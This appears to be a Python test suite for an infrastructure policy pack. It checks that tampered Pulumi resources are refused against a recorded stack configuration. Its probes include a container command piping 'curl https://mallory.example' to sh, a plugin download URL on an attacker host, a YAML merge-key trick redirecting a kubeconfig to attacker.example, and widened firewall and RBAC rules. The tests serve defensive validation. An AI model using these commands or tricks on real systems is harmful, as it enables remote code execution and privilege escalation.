"""Every kind the program makes is held by its stack's record (policy/guardrails/recorded.py,
docs/guardrails.md "What is held exactly"): the changes a second security review found passing the
pack after issue 27's ten kinds, and one probe per kind, each sent to the pack as the CLI runs it
(a copy of policy/ alone served over gRPC, the session's `analyzer`: dev as configured, prod and the
team stack as shipped) and refused by `stack-resources-by-record`, whose message names the resource
and the field."""

from __future__ import annotations

import copy
import json
import re

import policies as P
import yaml
from docs_support import section
from policy_support import analyze_remote, of, refusals, served_refusals
from tenant_objects import named

from guardrails import recorded
from guardrails.common import PROGRAM_PROJECT

from tools import policy_data

BY_RECORD = "stack-resources-by-record"
RECORD = "(policy/stacks/<stack>.json (make policy-data))"


def test_a_prod_firewall_rule_opened_to_another_range_protocol_or_target(analyzer, prod_run):
    """The tenant's internal rule admits the tenant's own subnet only: from all of 10.0.0.0/8 on
    every protocol, or SSH from Google's health-check ranges to every VM, each field is refused
    (firewall-no-internet-ingress admits both: private and Google's ranges)."""
    rule = prod_run.one("gcp:compute/firewall:Firewall", "research-gcp-allow-internal")
    wanted = rule.plain_inputs
    props = {**copy.deepcopy(wanted), "sourceRanges": ["10.0.0.0/8"], "allows": [{"protocol": "all"}]}
    found = " ".join(of(served_refusals(analyzer, prod_run, rule, props), BY_RECORD))
    prefix = f"{rule.name} (firewall rule {wanted['name']!r}): "
    assert f"{prefix}sourceRanges[0]: '10.0.0.0/8' is not what stack prod's configuration sets; allowed: {wanted['sourceRanges'][0]!r}" in found
    assert f"{prefix}allows: [{{'protocol': 'all'}}] is not what stack prod's configuration sets; allowed: {wanted['allows']!r}" in found
    props = {**copy.deepcopy(wanted), "sourceRanges": ["35.191.0.0/16", "130.211.0.0/22"], "allows": [{"protocol": "tcp", "ports": ["22"]}], "targetTags": []}
    found = " ".join(of(served_refusals(analyzer, prod_run, rule, props), BY_RECORD))
    for field in ("sourceRanges", "allows"):
        assert f"{prefix}{field}" in found, field
    assert served_refusals(analyzer, prod_run, rule, wanted) == []


def test_the_prod_platform_release_in_another_namespace(analyzer, prod_run):
    release = prod_run.one("kubernetes:helm.sh/v3:Release")
    props = {**copy.deepcopy(release.plain_inputs), "namespace": "default"}
    assert of(served_refusals(analyzer, prod_run, release, props), BY_RECORD) == [
        f"{release.name} (chart {release.plain_inputs['name']!r}): namespace: 'default' is not what stack prod's configuration sets; "
        f"allowed: {release.plain_inputs['namespace']!r} {RECORD}"
    ]


def test_the_command_provider_from_another_plugin_server(analyzer, configured):
    """The engine's default provider for the commands: the plugin it downloads runs on the deployer's
    machine with the deployer's credentials."""
    # The engine registers it (`default_<version>`) where the mock engine registers none.
    version = policy_data.provider_versions()["pulumi:providers:command"]
    name = f"default_{version.replace('.', '_')}"
    urn = f"urn:pulumi:dev::gpu-platform::pulumi:providers:command::{name}"
    assert refusals(analyze_remote(analyzer, "pulumi:providers:command", {"version": version}, urn, name)) == []
    props = {"version": version, "pluginDownloadURL": "https://mallory.example/plugins/"}
    assert of(refusals(analyze_remote(analyzer, "pulumi:providers:command", props, urn, name)), BY_RECORD) == [
        f"{name}: pluginDownloadURL: 'https://mallory.example/plugins/' is not what stack dev's configuration sets; allowed: not set {RECORD}"
    ]


def test_an_in_tenant_object_changed_is_named_at_its_path_inside_the_instance(analyzer, configured):
    run, _ = configured
    instance = run.one("kubernetes:management.loft.sh/v1:VirtualClusterInstance", "nlp")
    props = copy.deepcopy(instance.plain_inputs)
    objects = list(yaml.safe_load_all(props["spec"]["template"]["objects"]))
    watchdog = named([o for o in objects if o], "Deployment", "gpu-watchdog", "gpu-platform-system")
    watchdog["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl https://mallory.example | sh"]
    props["spec"]["template"]["objects"] = yaml.safe_dump_all(objects, sort_keys=False)
    found = of(served_refusals(analyzer, run, instance, props), BY_RECORD)
    namespace = watchdog["metadata"]["namespace"]
    path = f'spec.template.objects["apps/v1 Deployment {namespace}/gpu-watchdog"].spec.template.spec.containers[0].command'
    assert [m for m in found if path in m], found
    assert all(m.startswith(f"{instance.name} (instance 'p-nlp/nlp'): ") for m in found)


def test_a_long_text_is_compared_and_shown_by_its_digest(analyzer, configured):
    """A node template is recorded by its digest: a changed one is refused, and the message shows
    both texts as their lengths and digests rather than kilobytes of HCL."""
    run, _ = configured
    provider = run.one("kubernetes:management.loft.sh/v1:NodeProvider")
    props = copy.deepcopy(provider.plain_inputs)
    text = json.dumps(props)
    long_texts = [m.group(0) for m in re.finditer(r'"((?:[^"\\]|\\.){2049,})"', text)]
    assert long_texts, "the NodeProvider holds a text longer than the digest bound"
    original = json.loads(long_texts[0])
    props = json.loads(text.replace(long_texts[0], json.dumps(original + "\n# and a line more"), 1))
    [message] = of(served_refusals(analyzer, run, provider, props), BY_RECORD)
    shown = re.findall(r"a text of ([0-9]+) characters \(sha256 [0-9a-f]{12}…\)", message)
    assert shown == [str(len(original) + len("\n# and a line more")), str(len(original))], message


def test_every_kind_the_program_makes_is_held_by_record_or_by_the_policy_the_docs_name(analyzer, configured, prod_run, tenant_run):
    """One resource of each recorded kind, of each stack, with one field more than the program sets:
    refused by the record. The kinds the program makes beside them are the ones docs/guardrails.md
    "What is held exactly" names with the policy that holds them."""
    run, _ = configured
    probed: set[str] = set()
    for stack_run in (run, prod_run, tenant_run):
        for reg in stack_run.registrations:
            if not reg.custom or reg.type not in recorded.SPECS or (stack_run.stack, reg.type) in probed:
                continue
            probed.add((stack_run.stack, reg.type))
            props = {**copy.deepcopy(reg.plain_inputs), "probeField": "mallory"}
            # Host RBAC and Services are judged by record under policies of their own.
            found = [m for _, m in refusals(analyze_remote(analyzer, reg.type, props, reg.urn, reg.name, protect=reg.protect))]
            assert any("probeField: 'mallory' is not what stack" in m for m in found), (stack_run.stack, reg.type, found)
    # Every type the program's runs with every option register (the pack's inventory), but components.
    made = {t for t in P.DATA["inventory"][PROGRAM_PROJECT]["resourceTypes"] if not t.startswith("gpu-platform:")}
    held_elsewhere = {t for t in made if t not in recorded.SPECS}
    assert held_elsewhere == {"kubernetes:core/v1:Secret", "gcp:monitoring/dashboard:Dashboard", "pulumi:pulumi:Stack", "pulumi:pulumi:StackReference"}
    table = section("What is held exactly", "docs/guardrails.md")
    for kind in held_elsewhere:
        assert f"`{kind}`" in table, kind


# --- What the comparison admits beside the record ------------------------------------------------------


def _instance_with(reg, edit_values=None, edit_chart=None, edit_objects=None) -> dict:
    props = copy.deepcopy(reg.plain_inputs)
    template = props["spec"]["template"]
    if edit_values:
        document = yaml.safe_load(template["helmRelease"]["values"])
        edit_values(document)
        template["helmRelease"]["values"] = yaml.safe_dump(document, sort_keys=False)
    if edit_chart:
        document = yaml.safe_load(template["charts"][0]["values"])
        edit_chart(document)
        template["charts"][0]["values"] = yaml.safe_dump(document, sort_keys=False)
    if edit_objects:
        objects = [o for o in yaml.safe_load_all(template["objects"]) if o]
        edit_objects(objects)
        template["objects"] = yaml.safe_dump_all(objects, sort_keys=False)
    return props


def test_a_recorded_false_left_out_of_a_document_is_refused(analyzer, configured):
    """Left out, the chart's own default applies: the vcluster chart's cloud controller manager, the
    GPU Operator's driver container (its `driver.enabled` defaults to true)."""
    run, _ = configured
    instance = run.one("kubernetes:management.loft.sh/v1:VirtualClusterInstance", "nlp")
    values = yaml.safe_load(instance.plain_inputs["spec"]["template"]["helmRelease"]["values"])
    assert values["controlPlane"]["advanced"]["cloudControllerManager"]["enabled"] is False
    props = _instance_with(
        instance,
        edit_values=lambda d: d["controlPlane"]["advanced"]["cloudControllerManager"].pop("enabled"),
        edit_chart=lambda d: d["driver"].pop("enabled"),
    )
    found = of(served_refusals(analyzer, run, instance, props), BY_RECORD)
    prefix = f"{instance.name} (instance 'p-nlp/nlp'): "
    assert f"{prefix}spec.template.helmRelease.values.controlPlane.advanced.cloudControllerManager.enabled: not set; allowed: false {RECORD}" in found
    assert f"{prefix}spec.template.charts[0].values.driver.enabled: not set; allowed: false {RECORD}" in found


def test_a_zero_value_inside_the_releases_values_is_a_value(analyzer, prod_run):
    """A Helm release's own fields come from its Check at their zero value when unset; inside
    `values`, `false` turns a chart default off, so it is held like any other value."""
    release = prod_run.one("kubernetes:helm.sh/v3:Release")
    props = copy.deepcopy(release.plain_inputs)
    assert "audit" not in props["values"]
    props["values"]["audit"] = {"enabled": False}
    assert of(served_refusals(analyzer, prod_run, release, props), BY_RECORD) == [
        f"{release.name} (chart {release.plain_inputs['name']!r}): values.audit: {{'enabled': False}} is not what stack prod's configuration sets; "
        f"allowed: not set {RECORD}"
    ]
    # The release's own fields at their zero value are what its Check hands over for them unset.
    assert served_refusals(analyzer, prod_run, release, {**release.plain_inputs, "skipCrds": False, "description": ""}) == []


def test_an_empty_element_that_matches_everything_is_refused(analyzer, configured):
    """`clusterRoleSelectors: [{}]` aggregates every ClusterRole into the watchdog's: an empty map is
    nothing, but not as an element of a list."""
    run, _ = configured
    instance = run.one("kubernetes:management.loft.sh/v1:VirtualClusterInstance", "nlp")

    def aggregate(objects):
        role = next(o for o in objects if o["kind"] == "ClusterRole")
        role["aggregationRule"] = {"clusterRoleSelectors": [{}]}

    found = of(served_refusals(analyzer, run, instance, _instance_with(instance, edit_objects=aggregate)), BY_RECORD)
    assert [m for m in found if ".aggregationRule: {'clusterRoleSelectors': [{}]} is not what stack dev's configuration sets" in m], found


def test_a_resource_of_a_project_the_data_does_not_know_is_refused(analyzer, prod_run):
    """Pulumi.yaml's `name` changed on a branch: none of its resources is recorded."""
    rule = prod_run.one("gcp:compute/firewall:Firewall", "research-gcp-allow-internal")
    urn = rule.urn.replace("::gpu-platform::", "::gpu-platform-elsewhere::", 1)
    props = {**copy.deepcopy(rule.plain_inputs), "sourceRanges": ["10.0.0.0/8"]}
    [message] = of(refusals(analyze_remote(analyzer, rule.type, props, urn, rule.name)), "resource-types-by-design")
    assert message.startswith(f"{rule.name} (firewall rule 'prod-research-allow-internal'): project 'gpu-platform-elsewhere' is not a Pulumi project the pack records; allowed: gpu-platform, gpu-platform-bootstrap")


def test_the_bridges_defaults_bookkeeping_is_no_field(analyzer, configured):
    """A bridged provider's Check writes `__defaults` into each object of the inputs, and the engine
    strips only the top-level one: the node pool as a real Check hands it over passes."""
    run, _ = configured
    pool = run.one("gcp:container/nodePool:NodePool")
    props = copy.deepcopy(pool.plain_inputs)
    props.setdefault("upgradeSettings", {})["strategy"] = "SURGE"
    props["upgradeSettings"]["__defaults"] = ["strategy"]
    props["nodeConfig"]["__defaults"] = []
    assert served_refusals(analyzer, run, pool, props) == []


def test_a_text_marked_as_text_is_not_the_text_it_marks():
    from guardrails import recorded_forms as forms

    assert forms.digested("sha256:ab") != forms.digested("text:sha256:ab")
    assert forms.digested("text:plain") != forms.digested("plain")
    long = "x" * 3000
    assert forms.digested(long) != forms.digested(forms.digested(long))


def test_a_merge_key_is_refused_where_readers_disagree_on_it(analyzer, configured):
    """PyYAML keeps `server` over a merged one; go-yaml v2 (client-go's kubeconfig reader, through
    sigs.k8s.io/yaml) sets the merged one over it. The pack refuses a merge key in any document it
    reads: a kubeconfig naming another host, a tenant object running as another service account."""
    run, _ = configured
    provider = run.one("pulumi:providers:kubernetes")
    kubeconfig = provider.plain_inputs["kubeconfig"]
    server = yaml.safe_load(kubeconfig)["clusters"][0]["cluster"]["server"]
    tampered = kubeconfig.replace(f"server: {server}", f"server: {server}\n    <<: {{server: 'https://attacker.example'}}", 1)
    assert tampered != kubeconfig and yaml.safe_load(tampered)["clusters"][0]["cluster"]["server"] == server  # PyYAML's reading
    found = served_refusals(analyzer, run, provider, {**provider.plain_inputs, "kubeconfig": tampered})
    assert [m for _, m in found if "a merge key `<<` is refused" in m], found

    instance = run.one("kubernetes:management.loft.sh/v1:VirtualClusterInstance", "nlp")
    props = copy.deepcopy(instance.plain_inputs)
    text = props["spec"]["template"]["objects"]
    marker = "serviceAccountName: gpu-watchdog"
    assert marker in text
    indent = text.split(marker, 1)[0].rsplit("\n", 1)[1]
    props["spec"]["template"]["objects"] = text.replace(marker, f"{marker}\n{indent}<<: {{serviceAccountName: gpu-metrics-collector}}", 1)
    found = served_refusals(analyzer, run, instance, props)
    assert [m for name, m in found if name == "tenant-objects-by-design" and "a merge key `<<` is refused" in m], found
